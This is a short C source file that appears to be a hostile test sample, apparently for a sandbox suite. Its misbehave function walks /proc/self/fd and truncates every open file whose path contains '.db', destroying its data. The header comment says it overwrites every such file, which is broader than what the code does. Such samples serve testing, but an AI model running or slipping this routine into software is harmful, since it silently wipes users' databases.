/* Writes over every file that its own descriptors lead to by name.
 * Seen: nothing */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "evil.h"

static void misbehave(void)
{
    char link[64], path[4096];
    for (int i = 0; i < 1024; i++) {
        (void)snprintf(link, sizeof link, "/proc/self/fd/%d", i);
        ssize_t length = readlink(link, path, sizeof path - 1);
        if (length < 0)
            continue;
        path[length] = '\0';
        FILE *file = strstr(path, ".db") ? fopen(path, "w") : NULL;
        if (file)
            (void)fclose(file);
    }
}
